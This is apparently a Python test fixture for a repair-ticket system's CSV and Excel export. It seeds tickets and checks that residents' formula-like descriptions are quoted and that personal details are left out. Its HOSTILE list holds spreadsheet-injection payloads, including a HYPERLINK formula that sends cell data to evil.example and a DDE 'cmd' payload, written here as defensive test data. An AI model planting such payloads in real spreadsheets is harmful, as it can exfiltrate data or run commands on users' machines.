"""November's tickets, as the export tests seed them: a finished, paid, rated job whose
resident typed a formula, open jobs with hostile words, and two reports just outside the
month (the evening before it starts, the first minute after it ends)."""

import csv
import io
from dataclasses import dataclass
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from baoxiu.config import Settings
from baoxiu.wiring import build_service
from storage.engine import create_engine
from tests.clock import FakeClock
from tests.reports import AGENT, draft
from tickets.actions import Command, Verb
from tickets.fees import FeeRequest
from tickets.model import Actor, Reporter
from tickets.payment import PayMethod
from tickets.rating import Agreement, Rating
from tickets.service import TicketService
from tickets.states import Source
from tickets.ticket_export import FEE_LINE_HEADERS, TICKET_HEADERS

SHANGHAI = ZoneInfo("Asia/Shanghai")
NAME, PHONE = "王秀英", "13912345678"
"""The resident of every seeded report: neither may appear in an export."""
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")',
    "+86 请尽快处理",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
"""What residents type that a spreadsheet would run, each starting one description."""


def shown(typed: str) -> str:
    """A hostile description as an export writes it: quoted, and its control characters
    spelled out."""
    return "'" + typed.replace("\t", "<U+0009>").replace("\r", "<U+000D>")


@dataclass(frozen=True)
class November:
    paid: str
    """Closed, fees 110.50 元 paid by WeChat, rated 4/5/5."""
    open: list[str]
    """Reported later in the month, one per hostile description, still waiting."""
    outside: list[str]


def local(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=SHANGHAI)


async def seed_november(settings: Settings, db_url: str) -> November:
    clock = FakeClock(local("2026-10-31T23:59:00"))
    engine = create_engine(db_url)
    try:
        service = build_service(settings, engine, clock)
        before = await _report(service, "10月的报修")
        clock.at = local("2026-11-01T00:00:00")
        paid = await _report(service, HOSTILE[0])
        lin, li = AGENT, Actor.member("li")
        for command in (
            Command(Verb.CLAIM, li),
            Command(Verb.START, li),
            Command(
                Verb.COMPLETE,
                li,
                findings="存水弯堵塞",
                fees=(FeeRequest("SD-01", Decimal(1)), FeeRequest("SD-02", Decimal(1), 8050)),
            ),
            Command(Verb.PAY, lin, method=PayMethod.WECHAT),
            Command(Verb.CONFIRM, lin, on_behalf=True, agreed=Agreement.IN_PERSON),
            Command(Verb.RATE, lin, agreed=Agreement.PHONE, rating=Rating(4, 5, 5, "师傅很好")),
            Command(Verb.CLOSE, lin),
        ):
            clock.advance(minutes=10)
            await service.act(paid, command, Source.API)
        clock.at = local("2026-11-30T23:00:00")
        opened = [await _report(service, words) for words in HOSTILE[1:]]
        clock.at = local("2026-12-01T00:00:00")
        after = await _report(service, "12月的报修")
    finally:
        await engine.dispose()
    return November(paid=paid, open=opened, outside=[before, after])


async def _report(service: TicketService, description: str) -> str:
    made = draft(
        description=description,
        location="=3栋2单元501" if description.startswith("=") else "3栋2单元501",
        reporter=Reporter(name=NAME, phone=PHONE),
    )
    return (await service.open(made, AGENT, Source.API)).ticket.number


def csv_rows(data: bytes) -> list[dict[str, str]]:
    """The CSV as Excel reads it: UTF-8 after its byte-order mark."""
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == TICKET_HEADERS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def sheets(data: bytes) -> tuple[Worksheet, Worksheet]:
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["工单", "收费明细"]
    tickets, lines = book["工单"], book["收费明细"]
    assert isinstance(tickets, Worksheet) and isinstance(lines, Worksheet)
    return tickets, lines


def check_workbook(data: bytes, seeded: November) -> None:
    """What both the CLI's and the API's workbook hold."""
    tickets, lines = sheets(data)
    assert tickets.freeze_panes == "A2" and lines.freeze_panes == "A2"
    rows = [list(row) for row in tickets.iter_rows(values_only=True)]
    assert tuple(rows[0]) == TICKET_HEADERS
    by = {row[0]: dict(zip(TICKET_HEADERS, row, strict=True)) for row in rows[1:]}
    assert list(by) == [seeded.paid, *seeded.open]  # oldest first; the outside two left out
    paid = by[seeded.paid]
    assert paid["状态"] == "已结单" and paid["时效"] == "按时" and paid["接单人"] == "李师傅"
    assert paid["报修时间"] == local("2026-11-01T00:00").replace(tzinfo=None)  # as Excel has it
    assert tickets["I2"].number_format == "yyyy-mm-dd hh:mm"
    assert (paid["费用合计（元）"], paid["已收（元）"], paid["收款方式"]) == (110.5, 110.5, "微信")
    stars = (paid["总体满意度"], paid["响应速度"], paid["服务态度"], paid["返工次数"])
    assert stars == (4, 5, 5, 0)
    assert paid["位置"] == "'=3栋2单元501"
    descriptions = [by[n]["问题描述"] for n in [seeded.paid, *seeded.open]]
    assert descriptions == [
        "'" + d.replace("\t", "<U+0009>").replace("\r", "<U+000D>") for d in HOSTILE
    ]
    assert all(tickets.cell(2, c).data_type != "f" for c in range(1, tickets.max_column + 1))
    assert tickets.column_dimensions["F"].width == 40  # 问题描述
    line_rows = [list(row) for row in lines.iter_rows(values_only=True)]
    assert tuple(line_rows[0]) == FEE_LINE_HEADERS
    assert line_rows[1:] == [
        [seeded.paid, "SD-01", "更换水龙头", "个", 1, 30, 30, "否"],
        [seeded.paid, "SD-02", "疏通下水道", "次", 1, 80.5, 80.5, "否"],
    ]
    everything = " ".join(
        str(value)
        for sheet in (tickets, lines)
        for row in sheet.iter_rows(values_only=True)
        for value in row
    )
    assert NAME not in everything and PHONE not in everything
